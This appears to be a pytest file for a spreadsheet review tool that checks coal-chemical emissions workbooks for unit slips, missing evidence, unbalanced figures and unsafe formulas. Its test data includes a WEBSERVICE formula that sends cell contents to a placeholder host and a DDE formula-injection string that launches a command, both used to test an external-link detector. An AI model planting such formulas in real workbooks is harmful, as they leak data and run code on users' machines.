"""Each rule of the review finds what breaks it, names the cell, and is silent on the clean worked example."""

from __future__ import annotations

import re
from collections.abc import Callable, Iterator
from copy import deepcopy
from functools import cache
from typing import Any

import pytest

from pycore.cells.addresses import column_letters
from pycore.findings.finding import Finding, Severity
from pycore.language import Language, Text
from pycore.library import library
from pycore.package.package import Package
from pycore.reading.book import Book
from pycore.review.rules import Rule, check_all, installed_rules
from pycore.review.rules.external_links import reaches_outside
from pycore.review.rules.unit_own_value import slip
from pycore.review.subject import Subject
from pycore.sheets.registry import installed_workbooks
from pycore.sheets.writer import write_workbook

pytestmark = pytest.mark.slow

WORKBOOK = installed_workbooks()["coal_chemical"]
Data = dict[str, Any]
UNITS = [code for code, _ in WORKBOOK.list("unit").entries]
UTILITIES, OLEFINS, METHANOL = (UNITS.index(code) for code in ("auxiliary", "mto", "methanol_synthesis"))
YUNNAN = library().electricity("yunnan", 2023).value


@cache
def example(language: Language = "zh") -> bytes:
    return write_workbook(WORKBOOK, language, WORKBOOK.examples["default"])


@cache
def clean(language: Language = "zh") -> Subject:
    return Subject.open(example(language))


def data_with(change: Callable[[Data], object]) -> Subject:
    """The worked example with its data changed, calculated."""
    data = deepcopy(dict(WORKBOOK.examples["default"]))
    change(data)
    return Subject.open(write_workbook(WORKBOOK, "zh", data))


def formula_at(name: str, index: int, formula: str) -> Subject:
    """The worked example with a formula put into one cell, calculated."""
    cell = clean().cell(name, index)
    assert cell is not None
    package = Package.read(example())
    return Subject.open(package.with_formulas({cell[0]: {(cell[1], cell[2]): formula}}))


def found_by(rule: str, subject: Subject) -> list[Finding]:
    return check_all(subject, [r for r in installed_rules() if r.id == rule])


def where(name: str, index: int) -> str:
    cell = clean().cell(name, index)
    assert cell is not None
    return f"{cell[0]}!{column_letters(cell[2])}{cell[1]}"


def put(table: str, row: int, **values: Any) -> Callable[[Data], object]:
    def change(data: Data) -> None:
        data[table][row] = {**data[table][row], **values}

    return change


def panel(key: str, **values: Any) -> Callable[[Data], object]:
    def change(data: Data) -> None:
        data[key] = {**data.get(key, {}), **values}

    return change


def again(table: str, row: int, **values: Any) -> Callable[[Data], object]:
    def change(data: Data) -> None:
        data[table] = [*data[table], {**data[table][row], **values}]

    return change


def green(data: Data) -> None:
    put("electricity", 2, power="green")(data)
    panel("settings", green_zero="yes")(data)


GAS = {
    "stage": "proposed",
    "unit": "gasification",
    "fuel": "bituminous",
    "consumption": 930_000,
    "evidence": "x",
}
OWN: dict[str, Any] = {
    "name": "掺混燃料", "measure": "t", "kind": "coal", "ncv": 18.2, "carbon_content": 0.0263, "oxidation": 0.97,
    "year": 2026, "source": "x", "uncertainty": 0.02, "flag": "V",
}  # fmt: skip


def own(row: int, kind: str, **values: Any) -> Callable[[Data], object]:
    """A row of the fuels that burns a fuel of the user's own."""

    def change(data: Data) -> None:
        data["own_fuels"] = [{**OWN, "kind": kind}]
        put("fuels", row, fuel="own1", ncv_own=None, carbon_content_own=None, oxidation_own=None, **values)(data)

    return change


# Rule, what breaks it in the data, the name and row where it is found.
BROKEN_DATA: list[tuple[str, Callable[[Data], object], str, int]] = [
    ("unit-own-value", put("fuels", 3, ncv_own=22_150), "fuels_ncv_own", 3),
    ("unit-calorific-value", put("fuels", 3, ncv_own=36), "fuels_ncv_own", 3),
    ("unit-own-value", put("electricity", 0, emission_factor_own=0.00053, reason="x"), "electricity_emission_factor_own", 0),
    ("unit-carbon-content", put("carbon", 0, content_own=58), "carbon_content_own", 0),
    ("unit-activity", put("electricity", 0, electricity=460_000_000), "electricity_electricity", 0),
    ("unit-activity", put("carbon", 0, quantity=93), "carbon_quantity", 0),
    ("unit-intensity", put("products", 0, proposed=60, capacity=90), "performance_e_ghg", 0),
    ("unit-percent", put("carbonates", 0, purity=92), "carbonates_purity", 0),
    ("unit-percent", put("products", 0, u=1), "products_u", 0),
    ("unit-flue-gas", put("nox", 0, flow=8), "nox_flow", 0),
    ("unit-flue-gas", put("nox", 1, hours=333), "nox_hours", 1),
    ("unit-flue-gas", put("nox", 1, concentration=7.8), "nox_concentration", 1),
    ("source-without-ledger", lambda data: data.update(capture=[]), "sources_source", 7),
    ("source-without-ledger", lambda data: data.update(nox=data["nox"][1:]), "sources_source", 1),
    ("factor-year", panel("settings", factor_year="2031"), "settings_factor_year", 0),
    ("factor-superseded", panel("settings", fuel_set="2015"), "settings_fuel_set", 0),
    ("factor-superseded", panel("settings", factor_year="2021"), "settings_factor_year", 0),
    ("factor-sets", put("fuels", 3, fuel="lignite", ncv_own=11.9), "fuels_ncv_own", 3),
    ("factor-place", put("electricity", 0, emission_factor_own=YUNNAN, reason="x"), "electricity_emission_factor_own", 0),
    ("factor-own-evidence", put("carbon", 0, reason=""), "carbon_content_own", 0),
    ("factor-own-evidence", put("fuels", 3, evidence=""), "fuels_ncv_own", 3),
    ("balance-carbon", put("carbon", 0, quantity=300_000), "carbon_carbon", 3),
    ("balance-transfer", put("carbon", 14, quantity=140_000), "carbon_carbon", 1),
    ("balance-product", put("products", 0, proposed=500_000), "products_proposed", 0),
    ("balance-product", put("products", 1, capacity=20.3), "products_capacity", 1),
    ("balance-nox-limit", put("nox", 0, concentration=55), "nox_concentration", 0),
    ("balance-replaced", put("fuels", 5, consumption=120_000), "summary_replaced_fuel", UTILITIES),
    ("balance-measures", put("measures", 1, d_nox=-18_000), "effect_d_nox", METHANOL),
    ("balance-boundary", put("units", OLEFINS, proposed="no"), "units_proposed", OLEFINS),
    ("balance-loss", put("carbon", 0, quantity=1_400_000), "balance_carbon_in", len(UNITS)),
    ("balance-residue", put("carbon", 2, content_own=0.6), "carbon_carbon", 2),
    ("balance-capture", put("capture", 0, volume=40_000), "capture_volume", 0),
    ("unit-stage", put("electricity", 1, electricity=400_000), "electricity_electricity", 1),
    ("unit-flux", put("carbonates", 0, consumption=200_000), "carbonates_consumption", 0),
    ("unit-power", put("electricity", 0, electricity=4_600_000), "electricity_electricity", 0),
    ("unit-power", put("fuels", 2, consumption=4_200), "fuels_consumption", 2),
    ("unit-flue-fuel", put("fuels", 3, consumption=9_500), "nox_flow", 5),
    ("measure-effect", put("measures", 2, d_nox=8), "measures_adopted", 2),
    ("balance-share", put("share_proposed", 0, own2=0.5), "share_proposed_own2", 0),
    ("balance-allocation", put("share_proposed", UTILITIES, own1=0.05, own2=0.05), "share_proposed_own1", UTILITIES),
    ("balance-allocation", put("share_proposed", UTILITIES, own2=0.05, reason=""), "share_proposed_own1", UTILITIES),
    ("balance-route", put("products", 0, product="ethylene_glycol"), "products_product", 0),
    ("balance-route", put("products", 0, product="ethylene_glycol"), "products_proposed", 0),
    ("balance-product", put("products", 1, proposed=0), "products_proposed", 1),
    ("fuel-not-counted", put("fuels", 3, in_balance="yes"), "fuels_in_balance", 3),
    ("fuel-not-counted", put("fuels", 1, unit="auxiliary"), "fuels_in_balance", 1),
    ("unit-flue-fuel", own(3, "coal", consumption=9_500), "nox_flow", 5),
    ("double-fuel", own(1, "own_gas", in_balance="no"), "fuels_in_balance", 1),
    ("double-fuel", own(3, "coal", stage="proposed", unit="gasification", consumption=930_000), "fuels_consumption", 3),
    ("fuel-not-counted", own(1, "gas"), "fuels_in_balance", 1),
    ("green-power", green, "electricity_power", 2),
    ("double-rows", again("electricity", 0), "electricity_electricity", 8),
    ("double-rows", again("nox", 0, flow=70_000), "nox_stack", 8),
    ("double-fuel", put("fuels", 1, in_balance="no"), "fuels_in_balance", 1),
    ("double-fuel", lambda data: data["fuels"].append(GAS), "fuels_consumption", 6),
    ("grade-robust", lambda data: data.update(measures=[]), "confidence_firm", 0),
    ("evidence-missing", put("nox", 2, evidence=""), "nox_evidence", 2),
    ("number-as-text", put("carbon", 13, quantity="320000"), "carbon_quantity", 13),
    ("mixed-units", put("carbon", 0, content_own=0.0058), "carbon_content_own", 19),
    ("input-unused", put("fuels", 0, stage=""), "fuels_stage", 0),
    ("validation", put("heat", 0, pressure=400), "heat_pressure", 0),
    ("error-values", put("fuels", 3, oxidation_own=98, reason="x"), "fuels_co2_energy", 3),
]  # fmt: skip
# Rule, the cell that a formula is put into, and the formula.
BROKEN_FORMULAS: list[tuple[str, str, int, str]] = [
    ("formula-hard-coded", "fuels_consumption", 3, "80000*1.1875"),
    ("formula-hard-coded", "fuels_counted", 3, "K10*0.95"),
    ("formula-external", "fuels_use", 3, 'WEBSERVICE("http://example.invalid/"&A1)'),
    ("formula-circular", "carbon_quantity", 0, "K7"),
    ("error-swallowed", "fuels_consumption", 3, "IFERROR(95000/1,0)"),
    ("number-as-text", "fuels_consumption", 3, "SUM(C7:C9)"),
    ("formula-overlap", "fuels_consumption", 3, "SUM(F11:F12,F12)"),
    ("formula-approximate", "fuels_ncv_own", 3, "VLOOKUP(1,F11:G12,1)"),
    ("mixed-units", "fuels_consumption", 3, "F11+H11"),
    ("formula-empty-reference", "fuels_consumption", 3, "F30"),
    ("formula-empty-reference", "fuels_consumption", 9, "SUM(F7:F9)"),
    ("formula-volatile", "fuels_consumption", 3, 'INDIRECT("F11")'),
    ("factor-library", "factors_value", 0, "21"),
]  # fmt: skip


@pytest.mark.parametrize(("rule", "change", "name", "row"), BROKEN_DATA)
def test_broken_data_is_found_at_its_cell(rule: str, change: Callable[[Data], object], name: str, row: int) -> None:
    findings = found_by(rule, data_with(change))
    assert where(name, row) in {f.where for f in findings}
    assert_sentences(findings)


@pytest.mark.parametrize(("rule", "name", "row", "formula"), BROKEN_FORMULAS)
def test_broken_formula_is_found_at_its_cell(rule: str, name: str, row: int, formula: str) -> None:
    findings = found_by(rule, formula_at(name, row, formula))
    assert where(name, row) in {f.where for f in findings}
    assert_sentences(findings)


def assert_sentences(findings: list[Finding]) -> None:
    """Every finding is a sentence in both languages, with nothing left to fill in."""
    for finding in findings:
        for language in ("zh", "en"):
            said = finding.sentence(language)
            assert re.search(r"[{}]|\bNone\b|\bnan\b", said) is None
        assert finding.sentence("zh") != finding.sentence("en")


@pytest.mark.parametrize("language", ["zh", "en"])
def test_the_clean_example_has_nothing_but_true_notes(language: Language) -> None:
    findings = check_all(clean(language))
    assert [f.rule for f in findings if f.severity is not Severity.NOTE] == []
    assert {f.rule for f in findings} == {"grade-robust", "factor-remembered", "factor-spread", "source-not-named"}


@pytest.mark.parametrize("language", ["zh", "en"])
def test_a_blank_workbook_has_no_finding_about_its_formulas(language: Language) -> None:
    findings = check_all(Subject.open(write_workbook(WORKBOOK, language)))
    assert {f.rule for f in findings} <= {"validation"}  # what is required is not filled in yet


def test_every_rule_is_broken_by_a_test() -> None:
    broken = {r for r, *_ in BROKEN_DATA} | {r for r, *_ in BROKEN_FORMULAS}
    # These have tests of their own.
    others = {
        "factor-remembered", "factor-edition", "calculation-mode", "row-check", "row-doubt", "unit-year", "unit-carbide-slag",
        "link-out", "file-extras", "written-results", "factor-own", "factor-spread",
        "own-value-lowers", "evidence-kind", "policy-answers", "balance-energy", "capture-taker", "source-not-named",
        "reported-difference", "measure-above-source", "unit-consumption", "unit-own-fuel", "unit-row-energy",
    }  # fmt: skip
    assert {r.id for r in installed_rules()} - broken == others


@pytest.mark.parametrize("attribute", ['calcMode="manual"', 'iterate="1"', 'fullPrecision="0"'])
def test_a_calculation_mode_is_found(attribute: str) -> None:
    package = Package.read(example())
    xml = package.members["xl/workbook.xml"].replace(b"<calcPr ", f"<calcPr {attribute} ".encode())
    subject = Subject.open(package.with_members({"xl/workbook.xml": xml}))
    assert [f.where for f in found_by("calculation-mode", subject)] == [""]


@pytest.mark.parametrize(
    ("attribute", "severity"), [('iterate="1"', Severity.NOTE), ('calcMode="manual"', Severity.WARNING)]
)
def test_gnumeric_iterates_in_every_file_that_it_saves(attribute: str, severity: Severity) -> None:
    package = Package.read(example())
    changed = {
        "xl/workbook.xml": package.members["xl/workbook.xml"].replace(b"<calcPr ", f"<calcPr {attribute} ".encode()),
        "docProps/app.xml": b"<Properties><Application>gnumeric</Application></Properties>",
    }
    found = found_by("calculation-mode", Subject.open(package.with_members(changed)))
    assert [f.severity for f in found] == [severity]


def test_a_remembered_factor_is_a_note_only_where_it_is_used() -> None:
    subject = data_with(lambda data: data.update(capture=[]))
    assert found_by("factor-remembered", subject) == []
    assert [f.severity for f in found_by("factor-remembered", clean())] == [Severity.NOTE]


def test_a_grade_that_the_measures_make_firm_is_a_note() -> None:
    assert [f.severity for f in found_by("grade-robust", clean())] == [Severity.NOTE]
    without = data_with(lambda data: data.update(measures=[]))
    assert [f.severity for f in found_by("grade-robust", without)] == [Severity.WARNING]


def test_a_link_to_another_workbook_is_found_though_it_cannot_be_calculated() -> None:
    cell = clean().cell("fuels_consumption", 3)
    assert cell is not None
    changed = Package.read(example()).with_formulas({cell[0]: {cell[1:]: "[1]Sheet1!A1"}})
    findings = found_by("formula-external", Subject(Book.open(changed), clean().values))
    assert [f.where for f in findings] == [where("fuels_consumption", 3)]


def test_a_sum_of_thousands_of_terms_is_read_in_no_time() -> None:
    cell = clean().cell("fuels_consumption", 3)
    assert cell is not None
    terms = "+".join(f"F{row}" for row in range(1, 1500))
    changed = Package.read(example()).with_formulas({cell[0]: {cell[1:]: terms}})
    findings = check_all(Subject(Book.open(changed), clean().values))
    assert "formula-volatile" in {f.rule for f in findings}


def test_links_of_a_transfer_are_no_finding() -> None:
    assert set(clean().own_formulas.values()) >= {"H8", "L8"}


@pytest.mark.parametrize(
    ("formula", "outside"),
    [
        ("SUM(A1:A3)", False),
        ("[1]Sheet1!A1", True),
        ("'C:\\a\\[b.xlsx]Sheet'!A1", True),
        ('HYPERLINK("#\'Fuels\'!A1","x")', False),
        ('HYPERLINK("http://example.invalid","x")', True),
        ("cmd|'/c calc'!A0", True),
        ('"see [1]!x | WEBSERVICE("', False),
        ("'油|气'!A1", True),
        ("Table1[amount]", False),
    ],
)
def test_what_reaches_outside(formula: str, outside: bool) -> None:
    assert bool(reaches_outside(formula)) is outside


@pytest.mark.parametrize(
    ("ratio", "word"),
    [
        (1000, "kJ/kg"),
        (0.001, "kJ/kg"),
        (100, "percentage"),
        (29.3, "tce"),
        (1 / 29.3, "tce"),
        (1e4, "10⁴"),
        (240, "kcal"),
    ],
)
def test_a_ratio_names_its_slip(ratio: float, word: str) -> None:
    said = slip(ratio)
    assert said is not None
    assert word in said.en


def test_findings_stand_in_the_order_of_sheets_and_rows() -> None:
    def change(data: Data) -> None:
        put("nox", 3, evidence="")(data)
        put("fuels", 2, evidence="")(data)
        put("fuels", 0, evidence="")(data)

    found = found_by("evidence-missing", data_with(change))
    assert [f.where for f in found] == [
        where(n, i) for n, i in (("fuels_evidence", 0), ("fuels_evidence", 2), ("nox_evidence", 3))
    ]


def test_a_rule_that_fails_is_a_finding_and_the_others_go_on() -> None:
    def broken(subject: Subject) -> Iterator[Finding]:
        yield clean_rule.at(None, clean_rule.text, clean_rule.text, clean_rule.text)
        raise ZeroDivisionError

    clean_rule = installed_rules()[0]
    failing = Rule("province-y", 0, Text("省级规则", "a rule of a province"), Severity.NOTE, broken)
    evidence = next(r for r in installed_rules() if r.id == "evidence-missing")
    found = check_all(data_with(put("nox", 2, evidence="")), [failing, evidence])
    assert [f.rule for f in found] == [clean_rule.id, "rule-failed", "evidence-missing"]
    failed = found[1]
    assert failed.severity is Severity.WARNING
    assert failed.more == {"rule": "province-y", "error": "ZeroDivisionError"}
    assert "省级规则" in failed.action.zh
    assert "ZeroDivisionError" in failed.found.en


@pytest.mark.parametrize(
    ("table", "row", "values"),
    [
        ("carbon", 0, {"quantity": 1_000_000}),
        ("electricity", 1, {"electricity": 120_000}),
        ("fuels", 3, {"consumption": 60_000}),
        ("capture", 0, {"volume": 8_000}),
        ("carbonates", 0, {"consumption": 45_000}),
    ],
)
def test_large_but_possible_amounts_are_no_finding_of_plausibility(
    table: str, row: int, values: dict[str, float]
) -> None:
    rules = {
        "balance-loss",
        "balance-residue",
        "balance-capture",
        "unit-stage",
        "unit-flux",
        "unit-power",
        "unit-flue-fuel",
    }
    found = check_all(data_with(put(table, row, **values)), [r for r in installed_rules() if r.id in rules])
    assert [f.sentence("en") for f in found] == []


def test_green_power_with_a_contract_is_a_note() -> None:
    def proven(data: Data) -> None:
        green(data)
        put("electricity", 2, evidence="绿电交易合同 2025-07")(data)

    assert [f.severity for f in found_by("green-power", data_with(proven))] == [Severity.NOTE]


def test_a_formula_that_is_the_templates_but_for_spaces_is_no_formula_of_the_users() -> None:
    cell = clean().cell("fuels_check", 3)
    assert cell is not None
    spaced = clean().book.formulas[cell].replace(",", " , ")
    assert len(spaced) > 400
    assert check_all(formula_at("fuels_check", 3, spaced), [r for r in installed_rules() if r.number == 14]) == []


def test_ids_are_unique_and_all_numbers_of_this_part_are_there() -> None:
    rules = installed_rules()
    assert len({r.id for r in rules}) == len(rules)
    assert {r.number for r in rules} >= {1, *range(5, 16), 18, 19, 20}


def test_a_stack_with_tonnes_a_year_is_a_row_that_counts() -> None:
    """By CEMS or permit: no concentration, and still no source without a ledger."""
    given = {"mass": 29.44, "concentration": None, "flow": None, "hours": None, "source": "cems"}

    def by_tonnes(data: Data) -> None:
        data["nox"] = [{k: v for k, v in {**row, **given}.items() if v is not None} for row in data["nox"]]

    assert found_by("source-without-ledger", data_with(by_tonnes)) == []


@pytest.mark.parametrize(
    ("product", "unit", "material"),
    [("dcl", "direct_liquefaction", "diesel_oil"), ("dcl", "hydrocracking", "naphtha"), ("icl", "hydrofining", "wax")],
)
def test_liquefaction_and_hydro_treatments_make_oil(product: str, unit: str, material: str) -> None:
    def oil(data: Data) -> None:
        data["products"] = [{"product": product, "proposed": 100_000, "construction": 50_000}]
        data["units"] = [{"proposed": "yes", "construction": "yes"} if code == unit else {} for code in UNITS]
        flow = {"unit": unit, "direction": "product", "flow": "external", "material": material, "quantity": 100_000}
        data["carbon"] = [{**flow, "stage": stage, "evidence": "x"} for stage in ("proposed", "construction")]

    assert found_by("balance-route", data_with(oil)) == []
